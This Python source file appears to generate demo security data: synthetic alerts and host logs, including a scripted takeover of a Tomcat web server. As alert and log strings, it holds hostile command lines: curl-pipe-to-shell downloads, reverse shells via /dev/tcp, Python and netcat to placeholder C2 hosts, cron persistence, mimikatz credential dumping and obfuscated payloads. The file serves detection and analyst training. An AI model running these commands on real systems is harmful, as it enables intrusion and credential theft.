        entities = [_ip(campaign.attacker_ip), _user(user, logon, campaign.attacker_ip)]
        description = (
            f"{user} logged on over {logon} from {campaign.attacker_ip}, "
            "an address this host has not seen before."
        )
        return self.security_center(
            host, when, "suspicious_login", name, level, entities, description
        )

    def _mining(self, campaign, host, when):
        miner = self.files["miner"]
        cmdline = f"{miner.path} -o {_POOL_DOMAIN}:{_POOL_PORT} -u 4AdUndXHHZ9pfQj27iMAjAr4 -k"
        entities = [
            _process(self.rng.randint(2000, 60000), 1, miner.path, cmdline, "root", "attacker"),
            _file(miner),
            _entity("domain", _POOL_DOMAIN, "attacker"),
            _ip(_POOL_IP, "attacker"),
        ]
        description = f"{miner.path} ({miner.family}) mines cryptocurrency for {_POOL_DOMAIN}."
        exceptions = [f"CPU usage above 95% since {_iso(when - timedelta(minutes=12))}"]
        return self.security_center(
            host, when, "mining", "Mining program", "high", entities, description, exceptions
        )

    def _malicious_process(self, campaign, host, when):
        kinsing = self.files["kinsing"]
        # fmt: off
        variants = (
            ("Download and execution of a script by a shell", "medium", "/bin/sh",
             f"/bin/sh -c curl -fsSL http://{_DOWNLOAD_DOMAIN}/x.sh | sh"),
            ("Obfuscated command executed", "high", "/bin/bash",
             "bash -c echo Y3VybCAtZnNTTCBodHRwOi8vMTkyLjAuMi40NS94LnNofHNo | base64 -d | bash"),
            ("Malicious process: Kinsing", "high", kinsing.path, kinsing.path),
            ("Process disguised as a kernel thread", "medium", "/dev/shm/.x/kswapd0",
             "[kworker/0:2H]"),
        )
        # fmt: on
        name, level, path, cmdline = self._pick(campaign, variants)
        pid = self.rng.randint(2000, 60000)
        entities = [
            _process(
                pid, pid - 2, path, cmdline, self.rng.choice(("root", "www-data")), "attacker"
            ),
            _process(pid - 2, 1, "/usr/sbin/cron", "/usr/sbin/CRON -f", "root"),
        ]
        if path == kinsing.path:
            entities.append(_file(kinsing))
        if "curl" in cmdline:
            entities += [
                _entity("url", f"http://{_DOWNLOAD_DOMAIN}/x.sh", "attacker"),
                _entity("domain", _DOWNLOAD_DOMAIN, "attacker"),
            ]
        description = f"Process {pid} ({path}), started by cron, ran: {cmdline}"
        return self.security_center(
            host, when, "malicious_process", name, level, entities, description
        )

    def _malicious_file(self, campaign, host, when):
        file = self.files[self._pick(campaign, ("kworkerd", "tsunami", "gafgyt", "dropper"))]
        level = "medium" if file.family.startswith("Trojan.Shell") else "high"
        url = f"http://{_DOWNLOAD_DOMAIN}/{file.path.rsplit('/', 1)[-1]}"
        curl = f"curl -fsSL -o {file.path} {url}"
        entities = [
            _file(file),
            _process(self.rng.randint(2000, 60000), 1, "/usr/bin/curl", curl, "root"),
            _entity("domain", _DOWNLOAD_DOMAIN, "attacker"),
        ]
        name = f"Malicious file: {file.family}"
        description = f"{file.path} matches the signature of {file.family}."
        return self.security_center(
            host, when, "malicious_file", name, level, entities, description
        )

    def _webshell(self, campaign, host, when):
        if campaign.variant % 2:
            file, writer = self.files["php_shell"], ("/usr/sbin/php-fpm8.1", "php-fpm: pool www")
            user = "www-data"
        else:
            file, writer, user = self.files["jsp_shell"], (_JAVA, _JAVA_CMDLINE), "tomcat"
        entities = [
            _file(file),
            _process(self.rng.randint(900, 9000), 1, *writer, user),
            _ip(campaign.attacker_ip, "attacker"),
        ]
        description = f"A web shell was written to {file.path} by {writer[0]}."
        return self.security_center(
            host, when, "webshell", f"Webshell: {file.family}", "high", entities, description
        )

    def _iis_webshell(self, campaign, host, when):
        file = self.files["aspx_shell"]
        w3wp = r"C:\Windows\System32\inetsrv\w3wp.exe"
        entities = [
            _file(file),
            _process(
                self.rng.randint(900, 9000),
                600,
                w3wp,
                f"{w3wp} -ap DefaultAppPool",
                "IIS APPPOOL\\DefaultAppPool",
            ),
            _ip(campaign.attacker_ip, "attacker"),
        ]
        description = f"A web shell was written to {file.path} by the IIS worker process."
        return self.security_center(
            host, when, "webshell", f"Webshell: {file.family}", "high", entities, description
        )

    def _reverse_shell(self, campaign, host, when):
        c2, port = campaign.c2_ip, 4444 + campaign.variant % 5
        shells = (
            ("/bin/bash", f"bash -i >& /dev/tcp/{c2}/{port} 0>&1"),
            (
                "/usr/bin/python3",
                "python3 -c 'import socket,os,pty;s=socket.socket();"
                f's.connect(("{c2}",{port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];'
                'pty.spawn("/bin/bash")\'',
            ),
            ("/usr/bin/nc", f"nc -e /bin/sh {c2} {port}"),
        )
        path, cmdline = self._pick(campaign, shells)
        pid = self.rng.randint(2000, 60000)
        entities = [
            _process(pid, pid - 3, path, cmdline, "www-data", "attacker"),
            _ip(c2, "attacker"),
        ]
        description = f"A shell's input and output were redirected to {c2}:{port}."
        exceptions = [{"name": "Outbound connection", "destination": f"{c2}:{port}", "pid": pid}]
        return self.security_center(
            host, when, "reverse_shell", "Reverse shell", "high", entities, description, exceptions
        )

    def _rootkit(self, campaign, host, when):
        variants = (
            ("rootkit_ko", "Kernel-mode rootkit: hidden kernel module"),
            ("rootkit_so", "User-mode rootkit: library preloaded through /etc/ld.so.preload"),
        )
        key, name = self._pick(campaign, variants)
        file = self.files[key]
        description = f"{file.path} ({file.family}) hides processes from the system."
        return self.security_center(host, when, "rootkit", name, "high", [_file(file)], description)

    def _compromised_software(self, campaign, host, when):
        cron = f"*/5 * * * * curl -fsSL http://{_DOWNLOAD_DOMAIN}/x.sh | sh"
        cmdline = f"/bin/sh -c echo '{cron}' > /var/spool/cron/crontabs/root"
        redis = "/usr/bin/redis-server"
        entities = [
            _process(self.rng.randint(2000, 60000), 811, "/bin/sh", cmdline, "redis", "attacker"),
            _process(811, 1, redis, f"{redis} 0.0.0.0:6379", "redis"),
            _ip(campaign.attacker_ip, "attacker"),
        ]
        name = "Redis unauthorised access: cron job written by redis-server"
        description = (
            "redis-server, reachable without a password, wrote a cron job that downloads "
            "and runs a script."
        )
        level = self.rng.choice(("high", "medium"))
        return self.security_center(
            host, when, "compromised_software", name, level, entities, description
        )

    def _windows_malware(self, campaign, host, when):
        powershell = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
        # fmt: off
        variants = (
            ("win_miner", "mining", "Mining program", "high",
             rf"{self.files['win_miner'].path} --url {_POOL_DOMAIN}:{_POOL_PORT} --threads 4"),
            ("mimikatz", "malicious_process", "Credential dumping tool", "high",
             rf'{self.files["mimikatz"].path} "privilege::debug" "sekurlsa::logonpasswords" exit'),
            ("win_trojan", "malicious_file", "Malicious file: Trojan.Win32.Agent", "medium",
             rf"{self.files['win_trojan'].path} -k netsvc"),
            (None, "malicious_process", "Encoded PowerShell command", "medium",
             f"{powershell} -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="),
        )
        # fmt: on
        key, alert_type, name, level, cmdline = self._pick(campaign, variants)
        path = self.files[key].path if key else powershell
        pid = self.rng.randint(2000, 60000)
        entities = [_process(pid, 4120, path, cmdline, "DEMO\\svc_backup", "attacker")]
        if key:
            entities.append(_file(self.files[key]))
        return self.security_center(
            host, when, alert_type, name, level, entities, f"{path} ran: {cmdline}"
        )

    # -- campaign kinds: WAF ---------------------------------------------------

    def _web_attack(self, campaign, host, when):
        attack = self._pick(campaign, _WEB_ATTACKS[campaign.kind])
        payload = self.rng.choice(attack[-1])
        # Formula injection hides in a harmless-looking form: WAF only logs it.
        return self.waf(
            host, when, campaign, attack, payload, blocked=campaign.kind != "waf_formula"
        )

    # -- campaign kinds: Cloud Firewall ----------------------------------------

    def _cfw_inbound(self, campaign, host, when):
        *hit, port = self._pick(campaign, _INBOUND_ATTACKS)
        remote, blocked = (campaign.attacker_ip, port), campaign.variant % 3 != 0
        return self.cloud_firewall(host, when, hit, "in", remote, blocked=blocked)

    def _cfw_outbound_c2(self, campaign, host, when):
        remote = (campaign.c2_ip, self._pick(campaign, (443, 8443, 4443)))
        blocked = campaign.variant % 2 == 0
        return self.cloud_firewall(host, when, _C2_CONNECTION, "out", remote, blocked=blocked)

    def _cfw_mining_pool(self, campaign, host, when):
        pool = [_entity("domain", _POOL_DOMAIN, "attacker")]
        return self.cloud_firewall(
            host,
            when,
            _POOL_CONNECTION,
            "out",
            (_POOL_IP, _POOL_PORT),
            blocked=True,
            extra_entities=pool,
        )

    # -- campaign kinds: our own SIEM rules ------------------------------------

    def _siem_detection(self, campaign, host, when):
        rule_id, rule_name, alert_type, level, query = self._pick(campaign, _SIEM_RULES)
        _, digest = self.new_identity("siem")
        matched = self.rng.randint(3, 240)
        if alert_type == "mining":
            entities = [_entity("domain", _POOL_DOMAIN, "attacker")]
        elif alert_type == "abnormal_network":
            entities = [_ip(campaign.c2_ip, "attacker")]
        else:
            entities = [_ip(campaign.attacker_ip, "attacker")]
        raw = {
            "rule_id": rule_id,
            "rule_name": rule_name,
            "severity": level,
            "query": query,
            "window_minutes": 15,
            "matched_log_count": matched,
            "first_log_time": _iso(when - timedelta(minutes=14)),
            "last_log_time": _iso(when),
            "host_uuid": host.uuid,
        }
        description = f"Detection rule {rule_id} matched {matched} log records on {host.name}."
        return self.alert(
            "siem",
            f"siem-{digest[:32]}",
            host,
            alert_type,
            f"[{rule_id}] {rule_name}",
            level,
            when,
            entities,
            description,
            raw,
        )


# --- the attack story ----------------------------------------------------------

_JAVA = "/usr/lib/jvm/java-11-openjdk-amd64/bin/java"
_JAVA_CMDLINE = (
    f"{_JAVA} -Dcatalina.base=/opt/tomcat -Djava.io.tmpdir=/opt/tomcat/temp "
    "org.apache.catalina.startup.Bootstrap start"
)
_SCRIPT_URL = f"http://{_DOWNLOAD_DOMAIN}/x.sh"
_BINARY_URL = f"http://{_DOWNLOAD_DOMAIN}/kworkerd"
_CURL = "/usr/bin/curl"


class _Proc(NamedTuple):
    """A process as host logs and alert entities both describe it."""

    pid: int
    ppid: int
    path: str
    cmdline: str
    user: str

    def entity(self, role: str = "related") -> dict:
        return _process(*self, role=role)


@dataclass(frozen=True)
class AttackStory:
    """One web server of Demo Production taken over, step by step.

    The host logs tell each step and the Security Center alerts name the same
    processes, paths, hashes and addresses, so that source tracing can link
    them: HTTP exploit -> Tomcat spawns ``/bin/sh -c`` -> ``curl ... | sh``
    fetches a script -> the script drops and runs a binary -> the binary calls
    its C2 server.
    """

    host: Host
    start: datetime
    webshell: MaliciousFile
    dropped: MaliciousFile
    attacker_ip: str = "203.0.113.66"
    c2: tuple[str, int] = ("192.0.2.77", 4443)
    reverse_shell_to: tuple[str, int] = ("192.0.2.77", 4444)

    def at(self, minutes: float) -> datetime:
        return self.start + timedelta(minutes=minutes)

    # The process tree: Tomcat (2817) and everything the attacker started from it.
    @property
    def tomcat(self) -> _Proc:
        return _Proc(2817, 1, _JAVA, _JAVA_CMDLINE, "tomcat")

    def web_shell_command(self, pid: int, command: str) -> _Proc:
        return _Proc(pid, self.tomcat.pid, "/bin/sh", f"/bin/sh -c {command}", "tomcat")

    @property
    def reverse_shell(self) -> _Proc:
        ip, port = self.reverse_shell_to
        return self.web_shell_command(30226, f"bash -i >& /dev/tcp/{ip}/{port} 0>&1")

    @property
    def interactive_bash(self) -> _Proc:
        return _Proc(30227, self.reverse_shell.pid, "/bin/bash", "bash -i", "tomcat")

    @property
    def download(self) -> _Proc:
        return self.web_shell_command(30240, f"curl -fsSL {_SCRIPT_URL} | sh")

    @property
    def curl_script(self) -> _Proc:
        return _Proc(30241, self.download.pid, _CURL, f"curl -fsSL {_SCRIPT_URL}", "tomcat")

    @property
    def script(self) -> _Proc:
        return _Proc(30242, self.download.pid, "/bin/sh", "sh", "tomcat")

    @property
    def curl_binary(self) -> _Proc:
        cmdline = f"curl -fsSL -o {self.dropped.path} {_BINARY_URL}"
        return _Proc(30250, self.script.pid, _CURL, cmdline, "tomcat")

    @property
    def chmod(self) -> _Proc:
        cmdline = f"chmod +x {self.dropped.path}"
        return _Proc(30251, self.script.pid, "/usr/bin/chmod", cmdline, "tomcat")

    @property
    def implant(self) -> _Proc:
        cmdline = f"{self.dropped.path} -c {self.c2[0]}:{self.c2[1]} -k"
        return _Proc(30252, self.script.pid, self.dropped.path, cmdline, "tomcat")

    @property
    def cron_install(self) -> _Proc:
        line = f"*/10 * * * * curl -fsSL {_SCRIPT_URL} | sh"
        cmdline = f"/bin/sh -c (crontab -l 2>/dev/null; echo '{line}') | crontab -"
        return _Proc(30255, self.script.pid, "/bin/sh", cmdline, "tomcat")

    @property
    def crontab(self) -> _Proc:
        return _Proc(30257, self.cron_install.pid, "/usr/bin/crontab", "crontab -", "tomcat")


def build_story(seed: int, now: datetime) -> AttackStory:
    web_01 = next(h for h in build_hosts(seed) if h.account == PRODUCTION and h.name == "web-01")
    files = malicious_files(seed)
    # Two days ago at night: recent enough to be near the top of the lists.
    start = (now - timedelta(days=2)).replace(hour=2, minute=13, second=0, microsecond=0)
    return AttackStory(web_01, start, webshell=files["jsp_shell"], dropped=files["kworkerd"])


def _story_alerts(story: AttackStory, seed: int) -> list[dict]:
    host, at = story.host, story.at
    generator = _AlertGenerator(seed, story.start, [host], stream="story")
    tomcat = story.tomcat.entity()
    attacker, c2 = _ip(story.attacker_ip, "attacker"), _ip(story.c2[0], "attacker")
    download_domain = _entity("domain", _DOWNLOAD_DOMAIN, "attacker")
    shell_to = "{}:{}".format(*story.reverse_shell_to)
    # The WAF in front of web-01 runs in monitor mode: it saw the upload and let it through.
    campaign = _Campaign("story", story.attacker_ip, story.c2[0], [host], story.start, variant=0)
    alert = generator.security_center
    return [
        generator.waf(
            host, at(4), campaign, _STRUTS_UPLOAD, "../../webapps/ROOT/uploads/help.jsp",
            blocked=False, user_agent="python-requests/2.31.0",
        ),
        alert(
            host, at(4.5), "webshell", f"Webshell: {story.webshell.family}", "high",
            [_file(story.webshell), tomcat, attacker],
            f"A JSP web shell was written to {story.webshell.path} by Tomcat.",
        ),
        alert(
            host, at(9), "reverse_shell", "Reverse shell", "high",
            [story.reverse_shell.entity("attacker"), tomcat, c2],
            f"Tomcat started a shell connected to {shell_to}.",
            [{"name": "Outbound connection", "pid": story.interactive_bash.pid,
              "destination": shell_to}],
        ),
        alert(
            host, at(12), "malicious_process", "Download and execution of a script by a shell",
            "high",
            [story.download.entity("attacker"), tomcat, _entity("url", _SCRIPT_URL, "attacker"),
             download_domain],
            f"Tomcat started a shell that pipes {_SCRIPT_URL} into sh.",
        ),
        alert(
            host, at(13), "malicious_file", f"Malicious file: {story.dropped.family}", "high",
            [_file(story.dropped), story.curl_binary.entity(),
             _entity("url", _BINARY_URL, "attacker"), download_domain],
            f"{story.dropped.path} matches the signature of {story.dropped.family}.",
        ),
        alert(
            host, at(14), "abnormal_network", "Outbound connection to a malicious IP", "high",
            [story.implant.entity("attacker"), _file(story.dropped), c2],
            "{} connects to {}:{} every 5 minutes.".format(story.dropped.path, *story.c2),
        ),
    ]  # fmt: skip


def build_alerts(seed: int, count: int, now: datetime) -> list[dict]:
    """``count`` native alerts, the attack story's among them, oldest first."""
    story = _story_alerts(build_story(seed, now), seed)[: max(count, 0)]
    background = _AlertGenerator(seed, now, build_hosts(seed)).generate(count - len(story))
    return sorted(background + story, key=lambda alert: alert["occurred_at"])


# --- logs ----------------------------------------------------------------------


def build_logs(seed: int, now: datetime, alerts: Sequence[dict] = ()) -> list[dict]:
    """The attack story in host logs, a week of ordinary activity on several
    hosts, and what the newest of ``alerts`` saw on their hosts, oldest first."""
    story = build_story(seed, now)
    logs = (
        _story_logs(story) + _background_logs(seed, now) + _newest_alert_logs(seed, alerts, story)
    )
    return sorted(logs, key=lambda log: log["time"])


def _log(host: Host, log_type: str, moment: datetime, /, **fields) -> dict:
    return {
        "type": log_type,
        "account": host.account.uid,
        "host_uuid": host.uuid,
        "time": _iso(moment),
        **fields,
    }


def _process_log(host, moment, process: _Proc, parent: _Proc, file_hash=None) -> dict:
    return _log(
        host,
        "process",
        moment,
        pid=process.pid,
        ppid=process.ppid,
        path=process.path,
        cmdline=process.cmdline,
        user=process.user,
        parent_path=parent.path,
        parent_cmdline=parent.cmdline,
        hash=file_hash,
    )


def _network_log(host, moment, process: _Proc, src_port: int, destination) -> dict:
    dst_ip, dst_port = destination
    return _log(
        host,
        "network",
        moment,
        pid=process.pid,
        process_path=process.path,
        src_ip=host.private_ip,
        src_port=src_port,
        dst_ip=dst_ip,
        dst_port=dst_port,
        protocol="tcp",
        direction="out",
    )


def _file_log(host, moment, path, operation, process: _Proc, file_hash=None) -> dict:
    return _log(
        host,
        "file",
        moment,
        path=path,
        operation=operation,
        pid=process.pid,
        process_path=process.path,
        hash=file_hash,
    )


def _dns_log(host, moment, domain, answer, process: _Proc) -> dict:
    return _log(
        host,
        "dns",
        moment,
        domain=domain,
        answer=answer,
        pid=process.pid,
        process_path=process.path,
    )


def _http_log(host, moment, method, path, status, client) -> dict:
    src_ip, user_agent = client
    return _log(
        host,
        "http",
        moment,
        method=method,
        host=host.domain,
        path=path,
        status=status,
        src_ip=src_ip,
        user_agent=user_agent,
    )


def _login_log(host, moment, user, source, result, method, count=1) -> dict:
    src_ip, src_port = source
    return _log(
        host,
        "login",
        moment,
        user=user,
        src_ip=src_ip,
        src_port=src_port,
        result=result,
        method=method,
        count=count,
    )


def _story_logs(story: AttackStory) -> list[dict]:
    host, at, dropped = story.host, story.at, story.dropped
    scanner = (story.attacker_ip, "zgrab/0.x")
    attacker = (story.attacker_ip, "python-requests/2.31.0")
    download_server = (_DOWNLOAD_SERVER, 80)

    # Reconnaissance, then the upload that plants the web shell.
    probes = (
        "/",
        "/login",
        "/admin",
        "/manager/html",
        "/.env",
        "/.git/config",
        "/actuator/env",
        "/struts/webconsole.html",
        "/upload/",
    )
    logs = [
        _http_log(host, at(n * 0.3), "GET", path, 200 if n in (0, 1, 8) else 404, scanner)
        for n, path in enumerate(probes)
    ]
    logs += [
        _http_log(host, at(4), "POST", "/upload/ImageUpload.action", 200, attacker),
        _file_log(
            host, at(4.1), story.webshell.path, "create", story.tomcat, story.webshell.sha256
        ),
    ]

    # Commands through the web shell: each one a /bin/sh -c child of Tomcat.
    commands = (
        (6, story.web_shell_command(30211, "id")),
        (6.5, story.web_shell_command(30215, "uname -a")),
        (7, story.web_shell_command(30219, "cat /etc/passwd")),
        (9, story.reverse_shell),
        (12, story.download),
    )
    for minute, shell in commands:
        command = shell.cmdline.removeprefix("/bin/sh -c ")
        path = f"/uploads/help.jsp?cmd={quote(command)}"
        logs.append(_http_log(host, at(minute), "GET", path, 200, attacker))
        logs.append(_process_log(host, at(minute + 0.01), shell, story.tomcat))

    logs += [
        # The reverse shell connects back.
        _process_log(host, at(9.02), story.interactive_bash, story.reverse_shell),
        _network_log(host, at(9.03), story.interactive_bash, 48712, story.reverse_shell_to),
        # curl | sh: fetch the script and run it.
        _process_log(host, at(12.02), story.curl_script, story.download),
        _process_log(host, at(12.02), story.script, story.download),
        _dns_log(host, at(12.03), _DOWNLOAD_DOMAIN, _DOWNLOAD_SERVER, story.curl_script),
        _network_log(host, at(12.04), story.curl_script, 43121, download_server),
        # The script drops a binary, makes it executable and runs it.
        _process_log(host, at(12.5), story.curl_binary, story.script),
        _dns_log(host, at(12.51), _DOWNLOAD_DOMAIN, _DOWNLOAD_SERVER, story.curl_binary),
        _network_log(host, at(12.52), story.curl_binary, 43130, download_server),
        _file_log(host, at(12.6), dropped.path, "write", story.curl_binary, dropped.sha256),
        _process_log(host, at(12.7), story.chmod, story.script),
        _file_log(host, at(12.71), dropped.path, "chmod", story.chmod, dropped.sha256),
        _process_log(host, at(12.8), story.implant, story.script, dropped.sha256),
        _file_log(host, at(12.8), dropped.path, "execute", story.implant, dropped.sha256),
        # Persistence: the script re-installs itself from cron.
        _process_log(host, at(12.9), story.cron_install, story.script),
        _process_log(host, at(12.91), story.crontab, story.cron_install),
        _file_log(host, at(12.92), "/var/spool/cron/crontabs/tomcat", "write", story.crontab),
    ]
    # The implant calls its C2 server every five minutes for two hours.
    logs += [
        _network_log(host, at(13 + 5 * beacon), story.implant, 51000 + beacon, story.c2)
        for beacon in range(24)
    ]
    return logs


# How many of the newest Security Center alerts get host logs of their own: the
# events at the top of the list, which an analyst opens first, then trace into
# the logs and not only into what their alerts name.
NEWEST_ALERTS_WITH_LOGS = 120
_INIT = _Proc(1, 0, "/usr/lib/systemd/systemd", "/sbin/init", "root")
_WINDOWS_SHELL = _Proc(4120, 1, r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE", "SYSTEM")


def _newest_alert_logs(seed: int, alerts: Sequence[dict], story: AttackStory) -> list[dict]:
    """Host logs that tell what each of the newest Security Center alerts names:
    its processes started (parents first), its files written and run, its
    connections, look-ups and logons, moments before the alert. The attack
    story's alerts are left out: its own logs tell it."""
    hosts = {host.uuid: host for host in build_hosts(seed)}
    story_span = (story.start, story.at(180))
    candidates = [
        alert
        for alert in alerts
        if alert["source"] == "security_center" and (alert.get("asset") or {}).get("uuid") in hosts
    ]
    newest = candidates[max(len(candidates) - NEWEST_ALERTS_WITH_LOGS, 0) :]
    logs: dict[str, dict] = {}
    for alert in newest:
        host = hosts[alert["asset"]["uuid"]]
        moment = datetime.fromisoformat(alert["occurred_at"])
        if host == story.host and story_span[0] <= moment <= story_span[1]:
            continue
        for log in _alert_logs(host, moment, alert):
            # Alerts of one campaign at the same moment tell the same records once.
            logs.setdefault(json.dumps(log, sort_keys=True), log)
    return list(logs.values())


def _alert_logs(host: Host, moment: datetime, alert: dict) -> list[dict]:
    rng = random.Random(alert["uuid"])
    entities = alert["entities"]
    of_type = {kind: [e for e in entities if e["type"] == kind] for kind in _ENTITY_LOG_TYPES}
    processes = [
        _Proc(e["pid"], e["ppid"], e["path"], e["cmdline"], e["user"]) for e in of_type["process"]
    ]
    by_pid = {process.pid: process for process in processes}
    hashes = {file["path"]: file["sha256"] for file in of_type["file"]}
    start = moment - timedelta(seconds=60)
    logs = []
    # Parents start before their children.
    for n, process in enumerate(sorted(processes, key=lambda p: p.ppid in by_pid)):
        parent = by_pid.get(process.ppid)
        if parent is None:
            parent = _WINDOWS_SHELL if host.is_windows else _INIT
            parent = (
                parent if parent.pid == process.ppid else _Proc(process.ppid, 0, None, None, None)
            )
        logs.append(
            _process_log(
                host, start + timedelta(seconds=n), process, parent, hashes.get(process.path)
            )
        )
    actor = next(
        (p for e, p in zip(of_type["process"], processes, strict=True) if e["role"] == "attacker"),
        processes[-1] if processes else None,
    )
    for file in of_type["file"]:
        runner = next((p for p in processes if p.path == file["path"]), None)
        writer = next((p for p in processes if p.path != file["path"]), None)
        if writer is not None:
            logs.append(
                _file_log(
                    host,
                    start - timedelta(seconds=5),
                    file["path"],
                    "write",
                    writer,
                    file["sha256"],
                )
            )
        if runner is not None:
            logs.append(
                _file_log(
                    host,
                    start + timedelta(seconds=10),
                    file["path"],
                    "execute",
                    runner,
                    file["sha256"],
                )
            )
    ips = [e["value"] for e in of_type["ip"]]
    for domain in of_type["domain"]:
        asker = next((p for p in processes if domain["value"] in p.cmdline), actor)
        if asker is not None:
            answer = ips[0] if ips else None
            logs.append(
                _dns_log(host, start + timedelta(seconds=20), domain["value"], answer, asker)
            )
    for ip in of_type["ip"]:
        caller = next((p for p in processes if ip["value"] in p.cmdline), None)
        if caller is None and ip["role"] == "attacker":
            caller = actor
        if caller is not None:
            destination = (ip["value"], _POOL_PORT if ip["value"] == _POOL_IP else 443)
            logs.append(
                _network_log(
                    host,
                    start + timedelta(seconds=30),
                    caller,
                    rng.randint(32768, 60999),
                    destination,
                )
            )
    for user in of_type["user"]:
        failed = alert["type"] == "brute_force"
        source = (user["src_ip"], rng.randint(30000, 65000))
        method = "rdp" if user["logon_type"] == "RDP" else "password"
        count = rng.randint(5, 40) if failed else 1
        logs.append(
            _login_log(
                host,
                start + timedelta(seconds=40),
                user["name"],
                source,
                "failure" if failed else "success",
                method,
                count,
            )
        )
    return logs


_ENTITY_LOG_TYPES = ("process", "file", "ip", "domain", "user")


_NOISY_HOSTS = ("web-01", "web-02", "jump-01", "db-01", "win-ad-01", "shop-web-01", "spark-01")


@dataclass(frozen=True)
class _DayClock:
    """Times of one past day, never later than "now"."""

    rng: random.Random
    now: datetime
    days_ago: int

    def __call__(self, hour: int, minute: int | None = None) -> datetime:
        day = self.now - timedelta(days=self.days_ago)
        midnight = day.replace(hour=0, minute=0, second=0, microsecond=0)
        minute = self.rng.randint(0, 59) if minute is None else minute
        moment = midnight + timedelta(hours=hour, minutes=minute)
        return min(moment, self.now - timedelta(minutes=1))


def _background_logs(seed: int, now: datetime) -> list[dict]:
    """A week of ordinary activity: logons, cron, updates, page views.

    Failed logons from the usual attackers are part of ordinary life for a
    host on the Internet; they feed the SIEM's brute-force rules.
    """
    rng = random.Random(f"{seed}/logs")
    hosts = {host.name: host for host in build_hosts(seed)}
    jump = hosts["jump-01"]
    logs = []
    for name in _NOISY_HOSTS:
        host = hosts[name]
        day = _windows_day if host.is_windows else _linux_day
        for days_ago in range(7):
            logs += day(host, jump, _DayClock(rng, now, days_ago), rng)
    return logs


def _linux_day(host: Host, jump: Host, at: _DayClock, rng: random.Random) -> list[dict]:
    logs = []
    for hour in sorted(rng.sample(range(8, 20), 2)):
        source = (jump.private_ip, rng.randint(40000, 60000))
        user = rng.choice(("deploy", "ops"))
        logs.append(_login_log(host, at(hour), user, source, "success", "publickey"))
    if host.public_ip:
        source = (rng.choice(_ATTACKER_IPS[:5]), rng.randint(30000, 65000))
        user, count = rng.choice(("root", "admin")), rng.randint(5, 60)
        moment = at(rng.randint(0, 23))
        logs.append(_login_log(host, moment, user, source, "failure", "password", count))

    pid = rng.randint(10000, 20000)
    cron = _Proc(812, 1, "/usr/sbin/cron", "/usr/sbin/CRON -f", "root")
    daily = _Proc(pid, cron.pid, "/bin/sh", "/bin/sh -c run-parts /etc/cron.daily", "root")
    logrotate = _Proc(pid + 1, pid, "/usr/sbin/logrotate", "logrotate /etc/logrotate.conf", "root")
    apt = _Proc(pid + 2, cron.pid, "/usr/bin/apt-get", "/usr/bin/apt-get -qq update", "root")
    logs += [
        _process_log(host, at(3, 17), daily, cron),
        _process_log(host, at(3, 17), logrotate, daily),
        _process_log(host, at(4, 0), apt, cron),
        _dns_log(host, at(4, 0), _MIRROR_DOMAIN, _MIRROR_IP, apt),
        _network_log(host, at(4, 1), apt, rng.randint(40000, 60000), (_MIRROR_IP, 443)),
    ]
    if host.role == WEB:
        browser = "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2) Safari/605.1.15"
        for _ in range(4):
            page = rng.choice(("/", "/products", "/cart", "/static/app.js"))
            client = (rng.choice(_BENIGN_CLIENTS), browser)
            logs.append(_http_log(host, at(rng.randint(7, 22)), "GET", page, 200, client))
    return logs


def _windows_day(host: Host, jump: Host, at: _DayClock, rng: random.Random) -> list[dict]:
    services = _Proc(640, 4, r"C:\Windows\System32\services.exe", "services.exe", "SYSTEM")
    svchost_path = r"C:\Windows\System32\svchost.exe"
    svchost = _Proc(
        rng.randint(3000, 9000),
        640,
        svchost_path,
        f"{svchost_path} -k netsvcs -p",
        "NT AUTHORITY\\SYSTEM",
    )
    admin = (jump.private_ip, rng.randint(40000, 60000))
    attacker = (rng.choice(_ATTACKER_IPS[:5]), rng.randint(30000, 65000))
    failures = rng.randint(10, 200)
    return [
        _login_log(host, at(9), "DEMO\\administrator", admin, "success", "RDP"),
        _login_log(
            host, at(rng.randint(0, 23)), "Administrator", attacker, "failure", "RDP", failures
        ),
        _process_log(host, at(2, 0), svchost, services),
        _dns_log(host, at(6), "time.example.net", "198.51.100.251", svchost),
    ]


# --- event statuses ------------------------------------------------------------

# Notes of events handled without an action of the console: they claim no
# block, quarantine or kill, which would have a policy and tasks to show.
_HANDLED_NOTES = (
    "False positive: the company's own vulnerability scanner (change CHG-2041).",
    "Brute-force attempts only, no successful logon; the host's owner was asked to turn off "
    "password logon.",
    "Expected traffic: a scheduled job the application owner confirmed (ticket OPS-1187).",
    "Investigated: the alerts come from the penetration test agreed for this week (SEC-311).",
)
_HANDLING_NOTES = (
    "Investigating: collecting the process tree and looking for the same hash on other hosts.",
    "Waiting for the application owner to confirm whether this traffic is expected.",
)
# The note of an event handled with actions names them (see ``actions_note``).
CONFIRMED_LEAD = "Confirmed attack, contained through the Disposal Center:"
# Failed events first went to Handling with this lead and their actions, then one failed.
FAILED_ATTEMPT_LEAD = "Containing it through the Disposal Center:"
# A planned failure whose entities have no recommended policy stays in Handling.
_FAILED_NOTE = (
    "Investigating: no entity of this event has a recommended handling policy; looking "
    "for another way to contain it."
)
# What the simulated cloud answers for the demo's failed handling.
SIMULATED_FAILURE_MESSAGE = "The cloud did not accept the action (demo failure)"
# How many of the handled demo events are handled with their recommended policy.
HANDLED_WITH_ACTIONS = 8


def actions_note(lead: str, actions: Sequence[tuple[str, str]]) -> str:
    """A history note naming what was asked of the cloud: (scenario name, entity value)."""
    return f"{lead} " + "; ".join(f"{name} ({value})" for name, value in actions) + "."


def history_times(
    event_id: int, first_alert: datetime, last_alert: datetime, now: datetime, count: int
) -> list[datetime]:
    """When a demo event's ``count`` status changes happened.

    An analyst picks the event up a quarter of an hour to four hours after
    its last alert and the changes follow minutes apart, all after the first
    alert, before ``now`` and in order; a recent event's history is pressed
    into the time since its last alert.
    """
    rng = random.Random(f"history/{event_id}")
    latest = now - timedelta(seconds=30)
    start = min(max(first_alert, last_alert), latest)
    start = max(start, first_alert)
    offsets, elapsed = [], timedelta(minutes=rng.randint(15, 240))
    for _ in range(count):
        offsets.append(elapsed)
        elapsed += timedelta(minutes=rng.randint(2, 40), seconds=rng.randint(0, 59))
    room = max(latest - start, timedelta(0))
    scale = min(1.0, room / offsets[-1]) if offsets and offsets[-1] else 1.0
    return [start + offset * scale for offset in offsets]


@dataclass(frozen=True)
class PlannedStatus:
    event_id: int
